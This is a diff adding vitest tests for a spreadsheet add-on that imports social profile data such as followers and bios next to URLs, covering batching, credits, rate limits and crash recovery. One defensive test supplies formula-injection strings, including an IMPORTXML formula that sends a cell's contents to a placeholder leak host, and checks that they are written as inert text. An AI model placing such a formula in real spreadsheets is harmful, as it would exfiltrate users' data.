@@ -1,0 +1,256 @@
+import { expect, test } from 'vitest';
+import type { SpreadsheetFile } from '../harness/file.ts';
+import { goodKey, people, setUpWorkbench } from '../spreadsheet-setup.ts';
+import { ask, cells, importProperties, invented, openWithUrls, run, save, start, step, view } from './import-calls.ts';
+
+const bench = setUpWorkbench();
+const [ada = '', ben = ''] = Object.keys(people);
+const nobody = 'https://photo.example/nobody';
+
+test('values are beside their URLs: a status for each row, numbers as numbers, ids as text, dates in UTC, unknown empty', async () => {
+  const retrievedAt = '2026-01-02T03:04:00.000Z';
+  await bench.api.begin({
+    keys: [goodKey],
+    people: { ...people, [ada]: { ...people[ada], retrieved_at: retrievedAt } },
+  });
+  const file = await openWithUrls(bench, ada, nobody, '', ben);
+  const id = save(file, { source: cells('A2:A5') });
+  expect(run(file, id).run).toMatchObject({ total: 3, done: 3, ok: 2, failed: 1, credits: 2, finished: true });
+  expect(file.values('A1:F5')).toEqual([
+    ['Profile', 'Status', 'Followers', 'Account ID', 'Bio', 'Retrieved at (UTC)'],
+    [ada, 'OK', 1_200, '72057594037927937', 'Looms & numbers', expect.closeTo(46_024.12777, 4)],
+    [nobody, 'RESOURCE_NOT_FOUND', '', '', '', ''],
+    ['', '', '', '', '', ''],
+    [ben, 'OK', 5_400_000, '6800000000000000001', '', ''],
+  ]);
+  expect(file.types('B2:F2')).toEqual([['text', 'number', 'text', 'text', 'date']]);
+  expect(importProperties(file)).toEqual([`import_${id}`]);
+  expect(view(file, id)).toMatchObject({ run: null, last: { ok: 2, failed: 1, credits: 2, message: 'Finished.' } });
+});
+
+test('hostile text is written as the text it is, also where the cells were plain text before', async () => {
+  const texts = [
+    '=IMPORTXML("http://leak.example/?"&A1,"//a")',
+    '+1',
+    '-2+3',
+    '@SUM(A1)',
+    "'quoted",
+    '0012',
+    '1/2',
+    'TRUE',
+  ];
+  const hostile = Object.fromEntries(texts.map((bio, index) => [`https://photo.example/${index}`, { bio }]));
+  await bench.api.begin({ keys: [goodKey], people: hostile });
+  const file = await openWithUrls(bench, ...Object.keys(hostile));
+  file.format('B2:E9', '@');
+  run(file, save(file, { source: cells('A2:A9'), fields: ['bio'] }));
+  expect(file.values('C2:C9').flat()).toEqual(texts);
+  expect(new Set(file.types('C2:C9').flat())).toEqual(new Set(['text']));
+  expect(Object.values(file.sheet()).filter((cell) => cell.formula !== undefined)).toEqual([]);
+});
+
+test('text longer than a cell is cut at 50,000 characters', async () => {
+  await bench.api.begin({ keys: [goodKey], people: { [ada]: { bio: 'x'.repeat(60_000) } } });
+  const file = await openWithUrls(bench, ada);
+  run(file, save(file, { source: cells('A2'), fields: ['bio'] }));
+  expect(String(file.values('C2')[0]?.[0])).toHaveLength(50_000);
+});
+
+test('a step is at most twenty rows, and a run continues where it stopped after the sidebar is reopened', async () => {
+  const many = invented(45);
+  await bench.api.begin({ keys: [goodKey], people: many });
+  const file = await openWithUrls(bench, ...Object.keys(many));
+  const id = save(file, { source: cells('A2:A1000', true), fields: ['followers'] });
+  start(file, id);
+  expect(step(file, id).run).toMatchObject({ total: 45, done: 20, credits: 20, finished: false });
+  const filled = file.values('C2:C46').flat();
+  expect(filled.filter((cell) => cell !== '')).toHaveLength(20);
+  expect(view(file, id).run).toMatchObject({ done: 20, total: 45 });
+  expect(step(file, id).run.done).toBe(40);
+  expect(step(file, id).run).toMatchObject({ done: 45, credits: 45, finished: true });
+  expect(file.values('C2:C46').flat()).toEqual(Array.from({ length: 45 }, (_, index) => index));
+  expect((await bench.api.log()).credits_charged).toBe(45);
+});
+
+test('rows that were sorted or taken out meanwhile: every value is beside its own URL, and removed rows cost nothing', async () => {
+  const many = invented(45);
+  await bench.api.begin({ keys: [goodKey], people: many });
+  const urls = Object.keys(many);
+  const file = await openWithUrls(bench, ...urls);
+  const id = save(file, { source: cells('A2:A46'), fields: ['followers'] });
+  start(file, id);
+  step(file, id);
+  const backwards = [...urls].reverse();
+  file.type('A2', ...backwards.map((url, index) => (index < 5 ? '' : url)));
+  file.type('B2', ...Array(45).fill(''));
+  file.type('C2', ...Array(45).fill(''));
+  step(file, id);
+  const end = run(file, id).run;
+  expect(end).toMatchObject({ total: 45, done: 40, ok: 40, removed: 5, finished: true });
+  const shown = file.values('A2:C46').filter(([, status]) => status !== '');
+  expect(shown.map(([url, , followers]) => [url, followers])).toEqual(
+    backwards.slice(5, 25).map((url) => [url, many[url]?.followers]),
+  );
+  expect((await bench.api.log()).credits_charged).toBe(40);
+  expect(view(file, id).last?.message).toBe('Finished, 5 no longer in the sheet.');
+});
+
+test('rows and columns that are inserted in the middle of a run: every value is in its own row and column', async () => {
+  const many = invented(45);
+  await bench.api.begin({ keys: [goodKey], people: many });
+  const file = await openWithUrls(bench, ...Object.keys(many));
+  const id = save(file, { source: cells('A2:A46'), fields: ['followers', 'bio'] });
+  start(file, id);
+  step(file, id);
+  file.insertRows(10, 3);
+  file.insertRows(1, 2);
+  file.insertColumns(3, 1);
+  file.insertColumns(1, 1);
+  expect(run(file, id).run).toMatchObject({ done: 45, ok: 45, finished: true });
+  const rows = file.values('B4:F51').filter(([url]) => url !== '');
+  expect(rows).toEqual(Object.entries(many).map(([url, { followers, bio }]) => [url, 'OK', '', followers, bio]));
+  expect((await bench.api.log()).credits_charged).toBe(45);
+});
+
+test('URLs that are added during a run wait for the next run, because their cost was not shown', async () => {
+  const many = invented(30);
+  const urls = Object.keys(many);
+  await bench.api.begin({ keys: [goodKey], people: many });
+  const file = await openWithUrls(bench, ...urls.slice(0, 25));
+  const id = save(file, { source: cells('A2:A1000', true), fields: ['followers'] });
+  start(file, id);
+  step(file, id);
+  file.type('A2', ...[...urls.slice(25), ...urls.slice(0, 25)]);
+  expect(run(file, id).run).toMatchObject({ total: 25, done: 25, finished: true });
+  expect((await bench.api.log()).credits_charged).toBe(25);
+  expect(run(file, id).run).toMatchObject({ total: 30, credits: 5 });
+});
+
+test('the rate limit is a wait of a known length, after which the run continues without losing rows', async () => {
+  const file = await openWithUrls(bench, ada, ben);
+  const limit = {
+    status: 429,
+    headers: { 'retry-after': '41' },
+    body: '{"error":{"code":"RATE_LIMITED","message":""}}',
+  };
+  const id = save(file, { source: cells('A2:A3') });
+  start(file, id);
+  await bench.api.begin({ keys: [goodKey], people, answers: [limit] });
+  expect(step(file, id)).toMatchObject({ wait_s: 41, stopped: null, run: { done: 0, total: 2 } });
+  expect(step(file, id)).toMatchObject({ wait_s: null, run: { done: 2, credits: 2, finished: true } });
+});
+
+test.each([
+  ['no credits', 402, 'INSUFFICIENT_CREDITS', 'not enough credits'],
+  ['a revoked key', 401, 'INVALID_API_KEY', 'revoked'],
+  ['a broken server', 502, '', 'cannot answer'],
+])('%s stops the run with a sentence and keeps it', async (_, status, code, words) => {
+  const file = await openWithUrls(bench, ada, ben);
+  const id = save(file, { source: cells('A2:A3') });
+  start(file, id);
+  await bench.api.begin({ keys: [goodKey], people, answers: [{ status, body: `{"error":{"code":"${code}"}}` }] });
+  const stopped = step(file, id);
+  expect(stopped).toMatchObject({ wait_s: null, stopped: expect.stringContaining(words), run: { done: 0 } });
+  expect(view(file, id).stopped).toContain(words);
+  expect(step(file, id).run).toMatchObject({ done: 2, finished: true });
+});
+
+test('rows that lacked credits are requested again after a top-up, and answered rows are not', async () => {
+  await bench.api.begin({
+    keys: [goodKey],
+    people: { ...people, [ben]: { status: 'INSUFFICIENT_CREDITS', credits_charged: 0 } },
+  });
+  const file = await openWithUrls(bench, ada, ben);
+  const id = save(file, { source: cells('A2:A3'), max_age: 'fresh' });
+  start(file, id);
+  expect(step(file, id)).toMatchObject({ stopped: expect.stringContaining('Add credits'), run: { done: 1, ok: 1 } });
+  await bench.api.begin({ keys: [goodKey], people });
+  expect(step(file, id).run).toMatchObject({ done: 2, ok: 2, finished: true });
+  const { requests } = await bench.api.log();
+  expect(requests.flatMap(({ parameters }) => parameters.url ?? [])).toEqual([ben]);
+});
+
+/** Makes the saved run look as when Google stopped the script after the step had paid and written, before it was saved. */
+function stopBeforeSaving(file: SpreadsheetFile, id: string, before: string): void {
+  const { document } = file.world().properties;
+  const marks = document[`import_${id}_run_0`]?.match(/.{9}/g) ?? [];
+  const lease = { by: 'stopped', until_ms: file.world().now_ms + 60_000 };
+  delete document[`import_${id}_run_0`];
+  document[`import_${id}_run`] = JSON.stringify({ ...JSON.parse(before), lease, uncertain: marks });
+}
+
+test('fresh data whose answer was lost is not charged a second time, also when the rows were sorted meanwhile', async () => {
+  const many = invented(30);
+  await bench.api.begin({ keys: [goodKey], people: many });
+  const urls = Object.keys(many);
+  const file = await openWithUrls(bench, ...urls);
+  const id = save(file, { source: cells('A2:A31'), fields: ['followers'], max_age: 'fresh' });
+  start(file, id);
+  // The first step pays, but the file is then as before its end: only the reservation is saved.
+  await bench.api.begin({ keys: [goodKey], people: many, answers: [{ status: 502, body: '' }] });
+  expect(step(file, id).stopped).toContain('cannot answer');
+  file.type('A2', ...[...urls].reverse());
+  const lost = step(file, id);
+  expect(lost.run).toMatchObject({ done: 20 });
+  const asked = (await bench.api.log()).requests.at(-1)?.parameters;
+  expect(asked).toMatchObject({ fresh: [], cache_max_age: ['1d'] });
+  expect(new Set(asked?.url)).toEqual(new Set(urls.slice(0, 20)));
+  expect(step(file, id).run).toMatchObject({ done: 30, finished: true });
+  expect((await bench.api.log()).requests.at(-1)?.parameters).toMatchObject({ fresh: ['true'], cache_max_age: [] });
+});
+
+test.each([
+  ['append', 'Etc/UTC'],
+  ['append', 'America/New_York'],
+  ['update', 'Etc/UTC'],
+  ['replace', 'Etc/UTC'],
+])(
+  'a script that Google stopped after it had written (%s, %s): after a minute another window continues, pays nothing twice and writes no row twice',
+  async (mode, zone) => {
+    const many = invented(30);
+    await bench.api.begin({ keys: [goodKey], people: many });
+    const file = await openWithUrls(bench, ...Object.keys(many));
+    file.set({ time_zone: zone });
+    const target = { sheet: 'Rows', a1: 'A1' };
+    const id = save(file, { source: cells('A2:A31'), mode, target, fields: ['followers'], max_age: 'fresh' });
+    start(file, id);
+    const before = file.world().properties.document[`import_${id}_run`] ?? '';
+    step(file, id);
+    stopBeforeSaving(file, id, before);
+    expect(step(file, id)).toMatchObject({ wait_s: 60, run: { done: 0 } });
+    file.pass(61_000);
+    expect(run(file, id).run).toMatchObject({ done: 30, ok: 30, finished: true });
+    const column = file.values('A1:Z1', 'Rows')[0]?.indexOf('URL') ?? -1;
+    const urls = file.values('A2:Z100', 'Rows').map((row) => row[column]);
+    expect(urls.filter((url) => url !== '')).toEqual(Object.keys(many));
+    expect((await bench.api.log()).credits_charged).toBe(30);
+  },
+);
+
+test('an import has one unfinished run: starting again continues it, and after a cancel the written rows stay', async () => {
+  const many = invented(25);
+  await bench.api.begin({ keys: [goodKey], people: many });
+  const file = await openWithUrls(bench, ...Object.keys(many));
+  const id = save(file, { source: cells('A2:A26'), fields: ['followers'] });
+  start(file, id);
+  step(file, id);
+  expect(start(file, id).run.done).toBe(20);
+  expect(ask(file, 'sidebarImportCancel', id)).toMatchObject({ ok: true, imports: [{ run: null }] });
+  expect(ask(file, 'sidebarImportStep', id)).toMatchObject({ ok: false });
+  expect(importProperties(file)).toEqual([`import_${id}`]);
+  expect(file.values('C21:C22').flat()).toEqual([19, '']);
+  expect(view(file, id).last?.message).toBe('Cancelled, 5 not requested.');
+});
+
+test('a run stops while another user writes to the file, and continues later without losing rows', async () => {
+  const file = await openWithUrls(bench, ada);
+  const id = save(file, { source: cells('A2') });
+  start(file, id);
+  file.holdLock(120_000);
+  expect(ask(file, 'sidebarImportStep', id)).toMatchObject({
+    ok: false,
+    message: expect.stringContaining('Another user'),
+  });
+  file.pass(121_000);
+  expect(step(file, id).run.finished).toBe(true);
+});
